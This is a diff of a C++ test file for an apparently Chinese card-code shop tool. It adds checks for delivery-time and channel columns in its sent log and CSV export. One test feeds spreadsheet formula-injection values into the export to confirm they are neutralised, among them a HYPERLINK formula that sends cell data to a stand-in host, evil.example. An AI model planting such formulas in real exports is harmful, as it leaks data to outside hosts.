@@ -99,6 +99,13 @@ TEST(RunOnce, DeliversWholeOrdersByMailAndLeavesTheRestForLater) {
   EXPECT_NE(sentLines[0].find("\tB1\tb-secret-1\t"), std::string::npos);
   EXPECT_NE(sentLines[0].find(U("邮件发送")), std::string::npos);
   EXPECT_NE(sentLines[1].find("\tB2\tb-secret-2\t"), std::string::npos);
+  // Last, when each code was handed over ("YYYY-MM-DD HH:MM:SS") and how.
+  for (const std::string& line : sentLines) {
+    EXPECT_EQ(std::count(line.begin(), line.end(), '\t'), 10) << line;
+    const std::size_t channelAt = line.rfind('\t');
+    EXPECT_EQ(line.substr(channelAt + 1), U("邮件")) << line;
+    EXPECT_EQ(channelAt - line.rfind('\t', channelAt - 1) - 1, 19u) << line;
+  }
 
   auto left = RunProcess(TorvaneBinary(), {"cards", "list", "--item", U("点卡A")}, shop.dataDir(), 30s);
   ASSERT_EQ(left.exitCode, 0);
@@ -156,6 +163,7 @@ TEST(SentResend, ARefusedMailGoesOutAgainWithTheSameCodesAndTheOrderShips) {
   ASSERT_EQ(Lines(sent.out).size(), 1u) << sent.out;
   EXPECT_NE(sent.out.find("\tA1\ta-secret-1\t"), std::string::npos);
   EXPECT_NE(sent.out.find(U("邮件发送")), std::string::npos);
+  EXPECT_NE(sent.out.find(U("\t重新发送\n")), std::string::npos) << sent.out;
   EXPECT_NE(ReadBytes(shop.dataDir() / u8"历史记录.log").find("已重新发送原卡密"), std::string::npos);
 
   auto unknown = RunProcess(TorvaneBinary(), {"sent", "resend", "--order", "1", "--config-dir",
@@ -257,6 +265,7 @@ TEST(CardsCommands, ImportReadsUtf8AndGbkFilesAndRefusesFullWidthCommas) {
   std::string csv = ReadBytes(dir / "out.csv");
   EXPECT_EQ(csv.substr(0, 3), "\xEF\xBB\xBF");
   EXPECT_NE(csv.find(U("\"宝贝名称\",\"订单编号\"")), std::string::npos);
+  EXPECT_NE(csv.find(U("\"发货时间\",\"交付时间\",\"交付渠道\"\r\n")), std::string::npos) << csv;
   EXPECT_EQ(RunProcess(TorvaneBinary(), {"sent", "list"}, dir.path(), 30s).exitCode, 0);
   EXPECT_TRUE(ReadBytes(dir / u8"库存卡密.edb") == inventory) << "the inventory was written";
   EXPECT_TRUE(ReadBytes(dir / u8"已发卡密.edb") == sent) << "the sent store was written";
@@ -805,7 +814,8 @@ TEST(SentExport, FieldsThatWouldBeFormulasStayText) {
     auto stores = CardStores::Open(dir.path(), &error);
     ASSERT_TRUE(stores) << error.message;
     ASSERT_EQ(stores->Sent().AppendMany({{"=1+1", "+86", "-123", "@SUM(A1)", "\tx", "\ry",
-                                          "=HYPERLINK(\"http://evil.example/?\"&F2)", "a=b", "1-2"}}),
+                                          "=HYPERLINK(\"http://evil.example/?\"&F2)", "a=b", "1-2",
+                                          "2026-01-02 03:04:05", "=cmd"}}),
               1u);
   }
   auto exported = RunProcess(TorvaneBinary(), {"sent", "export", "out.csv"}, dir.path(), 30s);
@@ -813,7 +823,8 @@ TEST(SentExport, FieldsThatWouldBeFormulasStayText) {
   const std::string csv = ReadBytes(dir / "out.csv");
   const std::string row = csv.substr(csv.find("\r\n") + 2);
   EXPECT_EQ(row, "\"'=1+1\",\"'+86\",\"'-123\",\"'@SUM(A1)\",\"'\tx\",\"'\ry\","
-                 "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&F2)\",\"a=b\",\"1-2\"\r\n");
+                 "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&F2)\",\"a=b\",\"1-2\","
+                 "\"2026-01-02 03:04:05\",\"'=cmd\"\r\n");
 }
 
 // The deployment file holds the mail account: a mode that lets others read it and a password in
